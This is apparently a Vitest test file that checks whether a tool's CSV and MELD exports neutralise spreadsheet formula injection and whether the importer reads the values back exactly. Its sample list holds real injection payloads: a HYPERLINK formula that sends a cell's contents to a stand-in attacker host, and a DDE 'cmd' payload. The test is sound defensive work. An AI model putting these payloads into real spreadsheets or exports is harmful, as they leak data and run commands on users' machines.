// Spreadsheet formula injection (issue 14 item 1): CSV and MELD exports neutralise formula-like cells
// with a leading `'` (OWASP), and the MELD importer takes it off again so the round trip is exact.
import { afterAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { meldFiles } from '../../src/main/core/report/meld-export';
import { toCsv } from '../../src/main/core/report/table-export';
import { readMeldCsv } from '../../src/main/core/corpus/meld';
import { neutralizeCell, restoreCell } from '../../src/main/core/csv-formula';
import { row } from '../helpers/export-rows';
import { tmpDir } from '../helpers/tmp';

const EVIL = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  "'=already quoted",
  "''+two quotes",
  "'plain apostrophe",
  'it is =fine inside',
];
const TRIGGER = /^[=+\-@\t\r]/;

describe('CSV formula injection', () => {
  const t = tmpDir('es-inject-');
  afterAll(() => t.cleanup());

  it('neutralizeCell / restoreCell: a leading quote before a trigger, and back exactly', () => {
    expect(neutralizeCell('=1+1')).toBe("'=1+1");
    expect(neutralizeCell('\tx')).toBe("'\tx");
    expect(neutralizeCell('\rx')).toBe("'\rx");
    expect(neutralizeCell('hello')).toBe('hello');
    expect(neutralizeCell("'plain")).toBe("'plain");
    expect(neutralizeCell("'=x")).toBe("''=x");
    for (const v of [...EVIL, '', "'", "''", '\t', '-', "'-"]) expect(restoreCell(neutralizeCell(v))).toBe(v);
  });

  it('report --format csv: no cell starts a formula', () => {
    const rows = EVIL.map((text, i) =>
      row({
        id: i + 1,
        text,
        speaker: i % 2 ? '@speaker' : '-dash',
        dialogue: '=1',
        label: i === 0 ? '+label' : 'joy',
        prediction: { model_version: 1, label: '=pred', probabilities: { '+label': 0.5, joy: 0.5 } },
      }),
    );
    const csv = toCsv({ model_version: 1, labels: ['+label', 'joy'], split: null, rows });
    const cells = (parse(csv, { bom: true }) as string[][]).flat();
    expect(cells.filter((c) => TRIGGER.test(c))).toEqual([]);
    const r = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
    expect(r[0].text).toBe(`'${EVIL[0]}`);
    expect(r[0].label).toBe("'+label");
    expect(r[0].prediction).toBe("'=pred");
    expect(r[7].text).toBe('it is =fine inside');
  });

  it('report --format meld: no cell starts a formula; the importer reads the exact values back', () => {
    const rows = EVIL.map((text, i) =>
      row({ id: i + 1, split: 'dev', dialogue: '3', index: i, text, speaker: i % 2 ? '@Ann' : '-Bob', label: 'joy' }),
    );
    const [dev] = meldFiles(rows);
    const cells = (parse(dev.csv) as string[][]).flat();
    expect(cells.filter((c) => TRIGGER.test(c))).toEqual([]);
    const file = path.join(t.dir, dev.name);
    fs.writeFileSync(file, dev.csv);
    const b = readMeldCsv(file);
    expect(b.issues).toEqual([]);
    expect(b.records.map((r) => r.text)).toEqual(EVIL);
    expect(b.records.map((r) => r.speaker)).toEqual(rows.map((r) => r.speaker));
  });

  it('MELD export says which labels a re-import would skip', () => {
    const rows = [
      row({ id: 1, split: 'dev', dialogue: '0', index: 0, label: 'joy' }),
      row({ id: 2, split: 'dev', dialogue: '0', index: 1, label: 'bored' }),
      row({ id: 3, split: 'dev', dialogue: '0', index: 2, label: 'bored' }),
    ];
    const [dev] = meldFiles(rows);
    expect(dev.notes.filter((n) => n.includes("'bored'"))).toEqual([
      "label 'bored' (2 rows) is not one of MELD's anger, disgust, sadness, joy, neutral, surprise, fear: importing this file skips those rows",
    ]);
  });
});
